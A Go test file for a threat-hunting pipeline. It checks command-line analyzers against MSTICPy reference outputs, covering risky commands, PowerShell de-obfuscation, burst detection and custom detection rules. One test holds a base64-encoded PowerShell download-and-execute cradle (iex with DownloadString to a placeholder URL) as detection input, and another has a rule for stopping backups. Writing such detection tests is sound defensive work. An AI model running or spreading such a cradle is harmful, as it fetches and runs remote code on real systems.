package analyzers

import (
	"encoding/json"
	"fmt"
	"math"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/huntd/huntd/pipeline/internal/recorded"
)

// outputOf runs records through stages and returns what comes out.
func outputOf(t *testing.T, settings string, records []map[string]any) []map[string]any {
	t.Helper()
	var in strings.Builder
	for _, r := range records {
		line, err := json.Marshal(r)
		if err != nil {
			t.Fatal(err)
		}
		in.Write(append(line, '\n'))
	}
	text, err := runPipeline(t, settings, in.String())
	if err != nil {
		t.Fatal(err)
	}
	var out []map[string]any
	for line := range strings.Lines(text) {
		var r map[string]any
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatal(err)
		}
		out = append(out, r)
	}
	return out
}

// TestMSTICPyFeatures: all columns of MSTICPy's add_process_features, under its
// names and with its values.
func TestMSTICPyFeatures(t *testing.T) {
	var golden []map[string]any
	recorded.JSON(t, recorded.Path(t, "golden", "cluster_features.json"), &golden)
	var in []map[string]any
	for _, g := range golden {
		in = append(in, map[string]any{"NewProcessName": g["NewProcessName"], "CommandLine": g["CommandLine"], "SubjectLogonId": g["SubjectLogonId"]})
	}
	out := outputOf(t, "- command_line: { profile: msticpy }\n", in)
	if len(out) != len(golden) || len(out) < 100 {
		t.Fatalf("%d records of %d", len(out), len(golden))
	}
	for i, g := range golden {
		for name, want := range g {
			if name == "TimeGenerated" || name == "NewProcessName" || name == "CommandLine" || name == "SubjectLogonId" {
				continue
			}
			if got := out[i][name]; got != fmt.Sprint(number(want)) {
				t.Errorf("%s of %s: got %v, want %v", name, g["CommandLine"], got, number(want))
			}
		}
	}
}

// number prints a number of JSON as the stage does.
func number(v any) any {
	if f, ok := v.(float64); ok && f == math.Trunc(f) {
		return int64(f)
	}
	return v
}

// TestMSTICPyScalars: the figures of a text are there under the names of MSTICPy's
// functions as well.
func TestMSTICPyScalars(t *testing.T) {
	golden := map[string]any{}
	recorded.JSON(t, recorded.Path(t, "golden", "cluster_scalar.json"), &golden)
	out := outputOf(t, "- command_line: { profile: msticpy }\n", []map[string]any{{"CommandLine": golden["input"]}})
	for _, name := range []string{"delim_count", "delim_hash", "char_ord_score", "token_count", "crc32_hash"} {
		if want := fmt.Sprint(number(golden[name])); out[0][name] != want {
			t.Errorf("%s: got %v, want %s", name, out[0][name], want)
		}
	}
}

// TestMSTICPyRiskyCommand: of the commands whose times the golden has, the one
// that MSTICPy calls risky is the one that matches.
func TestMSTICPyRiskyCommand(t *testing.T) {
	var golden struct {
		Risky map[string]string `json:"risky_sudo"`
	}
	recorded.JSON(t, recorded.Path(t, "golden", "cmd_line.json"), &golden)
	for at, command := range golden.Risky {
		out := outputOf(t, "- command_line: { profile: msticpy, builtin: false, as: rows, features: false }\n", []map[string]any{
			{"_time": at, "Command": "/usr/bin/apt update"}, {"_time": at, "Command": command},
		})
		if len(out) != 1 || out[0]["Command"] != command || out[0]["_time"] != at || out[0]["risk_rule"] != "msticpy-bash" {
			t.Errorf("%s: got %v", command, out)
		}
	}
}

// TestMSTICPyPowerShell: the strings that MSTICPy's format_powershell puts
// together are put together, and its backticks are gone. It is another thing
// otherwise: we do not lower the case of all text (a password or a path would
// be another one), nor break and indent lines.
func TestMSTICPyPowerShell(t *testing.T) {
	var golden []struct{ In, Out string }
	recorded.JSON(t, recorded.Path(t, "golden", "format_powershell.json"), &golden)
	plain := func(s string) string {
		return strings.ToLower(strings.NewReplacer(" ", "", "\n", "", ";", "").Replace(s))
	}
	for _, g := range golden {
		out := outputOf(t, "- command_line: { features: false }\n", []map[string]any{{"CommandLine": g.In}})
		if got := fmt.Sprint(out[0]["command_readable"]); plain(got) != plain(g.Out) {
			t.Errorf("%s: got %s, want %s but for case and layout", g.In, got, g.Out)
		}
	}
}

// TestMSTICPySpeed: the bursts that MSTICPy finds, of commands at times that
// have the golden's differences. In order they are one burst, without the
// negative ones, which are MSTICPy's mistake about records out of order.
func TestMSTICPySpeed(t *testing.T) {
	var golden struct {
		Speed map[string][]struct {
			Start int
			Delta float64 `json:"delta_s"`
			N     int
		}
	}
	recorded.JSON(t, recorded.Path(t, "golden", "cmd_line.json"), &golden)
	var in []map[string]any
	for _, at := range []float64{421756.743, 0, 0, 1, 2, 2, 2, 1000, 1001, 1400, 1502.383} {
		in = append(in, map[string]any{"_time": fmt.Sprintf("%.3f", 1562000000+at), "Command": fmt.Sprint("c", at)})
	}
	for key, want := range golden.Speed {
		var within, events int
		if _, err := fmt.Sscanf(key, "time=%d,events=%d", &within, &events); err != nil {
			t.Fatal(err)
		}
		out := outputOf(t, fmt.Sprintf("- cmd_speed: { within: %ds, events: %d, profile: msticpy }\n", within, events), in)
		var got, stated []string
		for _, r := range out {
			got = append(got, fmt.Sprint(r["speed_start"], " ", r["speed_seconds"], " ", r["count"]))
		}
		for _, w := range want {
			stated = append(stated, fmt.Sprint(w.Start, " ", w.Delta, " ", w.N+1))
		}
		if diff := cmp.Diff(stated, got); diff != "" {
			t.Errorf("%s (- MSTICPy, + got):\n%s", key, diff)
		}
	}
	out := outputOf(t, "- cmd_speed: { within: 5s, events: 3 }\n", in)
	if len(out) != 1 || out[0]["count"] != "6" || out[0]["speed_seconds"] != "2" {
		t.Errorf("in order: %v", out)
	}
}

// TestDecodedCommands: what unpack_base64 found is looked at as well, and what
// is hidden in it undone.
func TestDecodedCommands(t *testing.T) {
	out := outputOf(t, "- unpack_base64: { fields: [CommandLine] }\n- command_line: { features: false }\n", []map[string]any{
		{"CommandLine": "powershell -enc JgAgACgAJwBpACcAKwAnAGUAeAAnACkAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAJwArACcAdAB0AHAAOgAvAC8AeAAnACkA"},
	})
	want := map[string]any{
		"decoded_readable": "& iex (New-Object Net.WebClient).DownloadString('http://x')",
		"risk_rule":        []any{"powershell-encoded", "powershell-expression", "powershell-download"}, "risk_severity": "high",
	}
	for name, value := range want {
		if diff := cmp.Diff(value, out[0][name]); diff != "" {
			t.Errorf("%s (- wanted, + got):\n%s", name, diff)
		}
	}
	if out[0]["command_readable"] != nil {
		t.Errorf("the command itself has nothing to undo: %v", out[0]["command_readable"])
	}
}

// TestCommandRuleFile: rules of the user's own, and mistakes in them.
func TestCommandRuleFile(t *testing.T) {
	dir := t.TempDir()
	write := func(name, text string) string {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		return path
	}
	good := write("good.yaml", "rules:\n  - { id: own, title: backup stopped, severity: critical, attack: [T1489], program: [net], all: [stop, '*backup*'] }\n")
	out := outputOf(t, fmt.Sprintf("- command_line: { rules: %q, builtin: false, as: rows, features: false }\n", good), []map[string]any{
		{"CommandLine": `net stop "My Backup"`}, {"CommandLine": "net start backup"},
	})
	if len(out) != 1 || out[0]["risk_rule"] != "own" || out[0]["risk_attack"] != "T1489" || out[0]["risk_field"] != "CommandLine" || out[0]["risk_command"] != "net stop My Backup" {
		t.Errorf("got %v", out)
	}
	for text, want := range map[string]string{
		"rules:\n  - { id: a, title: b, severity: bad, any: [x] }\n":     "one of informational, low, medium, high, critical",
		"rules:\n  - { id: a, title: b, severity: low, anny: [x] }\n":    `did you mean "any"?`,
		"rules:\n  - { id: a, title: b, severity: low }\n":               "rule a: it states nothing",
		"rules:\n  - { id: a, title: b, severity: low, regex: '(' }\n":   "rule a: error parsing regexp",
		"rules:\n  - { id: cmstp, title: b, severity: low, any: [x] }\n": "two rules are called cmstp",
	} {
		path := write("bad.yaml", text)
		_, err := runPipeline(t, fmt.Sprintf("- command_line: { rules: %q }\n", path), "")
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: got %v, want %s", text, err, want)
		}
	}
	if _, err := runPipeline(t, "- command_line: { rules: /no/such.yaml }\n", ""); err == nil {
		t.Error("a file that is not there is accepted")
	}
}
